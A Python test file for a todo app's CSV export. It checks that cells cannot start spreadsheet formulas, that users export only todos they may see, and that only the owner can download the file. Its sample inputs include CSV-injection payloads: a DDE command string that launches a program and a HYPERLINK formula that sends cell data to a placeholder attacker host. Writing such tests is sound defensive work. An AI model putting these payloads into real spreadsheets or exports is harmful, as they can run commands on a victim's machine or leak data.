"""Todos as CSV: what comes out, for whom, and that no spreadsheet executes it."""

import csv
import io
from datetime import UTC, date, datetime
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import insert, select, update

from app.extensions import db
from app.models import Attachment, Job, Todo
from app.services.exports import COLUMNS, safe_cell
from app.tasks.runner import execute
from tests.factories import create_todo

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULAS = [
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=cmd|' /C calc'!A0"),
    *(
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        " =1",
        "   +1",
        "\u00a0-1",
        "\u3000@SUM(A1)",
        "\u2003=1",
        "\u2009 =1",
        "\x0b=1",
    ),
    *('="a";"b"', '=HYPERLINK("http://evil.example?"&A1)', "-2+3+cmd|' /C calc'!A0", "'=1"),
]
HARMLESS = ["Water the plants", "a=b", "1-2", "me@example.org", "5 - 3", "", "–dash", "Grüße", '"quoted"', "a,b;c\td"]
BLANKS = st.text(" \t\u00a0\u3000\u2003'")


def undone(cell: str) -> str:
    """Return what a cell was made of: the apostrophe is ours whenever there is one."""
    return cell.removeprefix("'")


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_becomes_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_as_it_is(text):
    assert safe_cell(text) == text


@given(st.text() | st.tuples(BLANKS, st.sampled_from(FORMULA_STARTS), st.text()).map("".join))
def test_cell_never_begins_a_formula_and_can_be_undone(text):
    cell = safe_cell(text)
    assert undone(cell) == text
    assert not cell.lstrip().startswith(FORMULA_STARTS)


def export(client, *todos: Todo, **fields: str) -> Job:
    """Ask for an export as the list does, run its job and return it."""
    answer = client.send("/todos/chosen", {"action": "export", "id": [str(todo.id) for todo in todos]} | fields)
    assert answer.status_code == 302
    answer = client.send(answer.location, {"kind": "csv"})
    assert answer.status_code == 302
    job_id = int(urlsplit(answer.location).path.rpartition("/")[2])
    execute(job_id)
    return db.session.scalar(select(Job).where(Job.id == job_id).execution_options(populate_existing=True))


def rows(client, job: Job) -> list[dict[str, str]]:
    """Download the result of a job and return its rows."""
    assert job.status == "succeeded", job.error
    data = client.get(f"/files/{job.result['attachment_id']}").data
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_every_value_comes_out_as_it_is_stored(login, cast):
    stamp = datetime(2026, 11, 22, 23, 59, 58, tzinfo=UTC)
    todo = create_todo(
        cast.alice,
        "Plants",
        notes="All of them",
        priority=0,
        due_on=date(2026, 12, 1),
        assignees=[cast.charlie, cast.bob],
    )
    db.session.execute(update(Todo).values(complete=True, completed_at=stamp, created_at=stamp, updated_at=stamp))
    db.session.commit()
    client = login("alice")
    (row,) = rows(client, export(client, todo))
    instant = "2026-11-22T23:59:58+00:00"
    assert list(row) == list(COLUMNS)
    assert row == {
        "id": str(todo.id),
        "title": "Plants",
        "notes": "All of them",
        "priority": "urgent",
        "due_on": "2026-12-01",
        "complete": "yes",
        "completed_at": instant,
        "owner": "alice",
        "assignees": "bob, charlie",
        "created_at": instant,
        "updated_at": instant,
        "tags": "",
        "attachments": "",
    }


def test_quotes_lines_and_formulas_survive_the_way_out_and_back(login, cast):
    texts = [text for text in FORMULAS + HARMLESS if text.strip()] + ['"', "a\nb", 'She said "no,\nnever"', "\\", "😀"]
    todos = [create_todo(cast.alice, text, notes=f"{text}\n{text}") for text in texts]
    client = login("alice")
    found = rows(client, export(client, *todos))
    assert [undone(row["title"]) for row in found] == texts
    assert [undone(row["notes"]) for row in found] == [f"{text}\n{text}" for text in texts]
    assert not [row for row in found if any(cell.lstrip().startswith(FORMULA_STARTS) for cell in row.values())]


def test_export_without_a_choice_takes_the_list_with_all_its_pages(login, cast):
    for number in range(60):
        create_todo(cast.alice, f"Open {number}")
    create_todo(cast.alice, "Done", complete=True)
    create_todo(cast.charlie, "Theirs")
    client = login("alice")
    job = export(client)
    assert [row["title"] for row in rows(client, job)] == [f"Open {number}" for number in range(60)]
    assert job.result["todos"] == 60


def test_export_of_a_search_takes_what_was_found(login, cast):
    create_todo(cast.alice, "Zebra")
    create_todo(cast.alice, "Horse")
    client = login("alice")
    assert [row["title"] for row in rows(client, export(client, q="zebra"))] == ["Zebra"]


def test_export_of_an_empty_list_is_refused_with_a_sentence(login):
    answer = login("alice").send("/selection/export?all=1", {"kind": "csv"})
    assert answer.status_code == 400
    assert "Nothing matches any more" in answer.text
    assert db.session.query(Job).count() == 0


def test_only_what_may_be_seen_when_the_job_runs_is_written(login, cast):
    mine = create_todo(cast.alice, "Mine")
    lost = create_todo(cast.charlie, "Taken from me", assignees=[cast.alice])
    gone = create_todo(cast.alice, "Deleted")
    never = create_todo(cast.charlie, "Never mine")
    client = login("alice")
    ids = [str(todo.id) for todo in (mine, lost, gone)]
    refused = client.send("/selection/export", {"kind": "csv"}, query_string={"id": [*ids, never.id]})
    assert refused.status_code == 404
    answer = client.send("/selection/export", {"kind": "csv"}, query_string={"id": ids})
    lost.assignees = []
    db.session.commit()
    client.send(f"/todos/{gone.id}/delete")
    job = db.session.query(Job).one()
    assert answer.location.endswith(f"/jobs/{job.id}")
    execute(job.id)
    db.session.refresh(job)
    assert [row["title"] for row in rows(client, job)] == ["Mine"]
    assert job.result["todos"] == 1


def test_export_of_many_todos_is_in_order_and_complete(login, cast):
    values = [{"title": f"Todo {number}", "owner_id": cast.alice.id} for number in range(1203)]
    db.session.execute(insert(Todo), values)
    db.session.commit()
    client = login("alice")
    job = export(client)
    found = [int(row["id"]) for row in rows(client, job)]
    assert len(found) == 1203
    assert found == sorted(found)
    assert (job.progress_done, job.progress_total) == (1203, 1203)


@pytest.mark.parametrize("name", ["ada", "max", "bob", "vera"])
def test_result_is_downloaded_by_its_owner_only(login, cast, name):
    todo = create_todo(cast.alice, assignees=[cast.bob])
    job = export(login("alice"), todo)
    path = f"/files/{job.result['attachment_id']}"
    assert login("alice").get(path).status_code == 200
    assert login(name).get(path).status_code == 404


def test_result_is_a_file_to_be_saved(login, cast):
    client = login("alice")
    job = export(client, create_todo(cast.alice))
    answer = client.get(f"/files/{job.result['attachment_id']}")
    name = db.session.get(Attachment, job.result["attachment_id"]).name
    assert name == f"todos-{job.finished_at:%Y-%m-%d}.csv"
    assert answer.headers["Content-Disposition"] == f"attachment; filename={name}"
    assert answer.content_type == "text/csv; charset=utf-8"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "private" in answer.headers["Cache-Control"]


def test_job_page_offers_the_result_to_its_owner_only(login, cast):
    job = export(login("alice"), create_todo(cast.alice))
    link = f'href="/files/{job.result["attachment_id"]}"'
    assert link in login("alice").get(f"/jobs/{job.id}").text
    page = login("max").get(f"/jobs/{job.id}")
    assert page.status_code == 200
    assert link not in page.text


def test_admin_exports_the_chosen_todos(login, cast):
    todo = create_todo(cast.charlie, "=1+1")
    client = login("max")
    answer = client.send("/admin/todos/action_post", {"action": "export", "rowid": [str(todo.id)]})
    answer = client.send(answer.location, {"kind": "csv"})
    job = db.session.query(Job).one()
    assert answer.location.endswith(f"/jobs/{job.id}")
    execute(job.id)
    db.session.refresh(job)
    assert [row["title"] for row in rows(client, job)] == ["'=1+1"]
